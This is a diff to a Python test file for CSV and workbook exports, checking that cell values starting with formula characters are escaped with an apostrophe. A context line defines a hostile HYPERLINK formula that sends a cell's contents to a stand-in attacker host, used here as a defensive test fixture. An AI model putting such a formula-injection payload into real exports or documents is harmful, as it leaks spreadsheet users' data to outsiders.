@@ -17,7 +17,7 @@ HOSTILE = '=HYPERLINK("https://evil.example/?d="&B2,"Details")'
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_csv_cells_that_would_be_formulas_get_an_apostrophe(start: str) -> None:
     text = exports.to_csv([["Titel", "Voortgang"], [f"{start}1+1", 40]])
-    assert list(csv.reader(io.StringIO(text)))[1] == [f"'{start}1+1", "40"]
+    assert list(csv.reader(io.StringIO(text), delimiter=";"))[1] == [f"'{start}1+1", "40"]
 
 
 def test_workbook_text_cells_are_text() -> None:
@@ -43,7 +43,8 @@ async def test_a_formula_in_a_deliverable_title_stays_text_in_every_export(
     )
     assert made.status_code == 201, made.text
     director = await sign_in(DIRECTOR)
-    rows = list(csv.reader(io.StringIO((await director.get("/directors/export.csv")).text)))
+    exported = (await director.get("/directors/export.csv")).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(exported), delimiter=";"))
     titles = [row[2] for row in rows]
     assert "'" + HOSTILE in titles and HOSTILE not in titles
     assert not any(cell.startswith(exports.FORMULA_STARTS) for row in rows for cell in row)
